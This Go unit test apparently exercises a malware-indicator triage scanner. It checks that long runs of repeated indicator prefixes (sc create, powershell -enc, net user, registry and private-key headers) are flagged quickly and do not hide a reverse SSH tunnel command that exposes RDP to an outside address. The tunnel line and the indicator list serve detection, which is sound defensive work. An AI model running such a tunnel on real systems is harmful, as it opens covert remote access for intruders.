package payload

import (
	"bytes"
	"slices"
	"testing"
)

// Text that repeats what indicators begin with costs no more than a few times its length, which is said, and hides
// nothing that stands elsewhere. Without a bound the first of these is a minute for a megabyte.
func TestCrowdedText(t *testing.T) {
	t.Parallel()
	const tunnel = "ssh -N -R 7655:localhost:3389 user@203.0.113.7"
	for i, c := range []struct {
		text string
		said bool
	}{
		{"sc ", true}, {"sc create ", true}, {"powershell -e ", true}, {"powershell -enc QUFB ", true}, {"net user ", true}, {`s"c `, true},
		{"http://", true}, {"http://a.com", true}, {`c:\`, true}, {`%a%\`, true}, {`HKLM\`, true}, {`C:\a.exe `, true},
		{"-----BEGIN RSA PRIVATE KEY-----", true}, {"putty-user-key-file-2: ", true},
		{"a@b.com", false}, {"a.", false}, {"1.1.1.1", false}, {"://", false}, {"a^", false}, {"fe80:", false}, {"helping ", false},
	} {
		if testing.Short() && i%4 != 0 {
			continue
		}
		b := bytes.Repeat([]byte(c.text), 256<<10/len(c.text))
		b = append(append(b, '\n'), tunnel...)
		for _, b := range [][]byte{b, wide(string(b))} {
			got := triageBytes(t, b, "")
			if said := hasProblem(got, "stand so closely repeated"); said != c.said {
				t.Errorf("%q: said is %v: %q", c.text, said, got.Problems)
			}
			if !slices.Contains(got.Found.Commands, tunnel) {
				t.Errorf("%q hides the tunnel: %.200q", c.text, got.Found.Commands)
			}
		}
	}
}
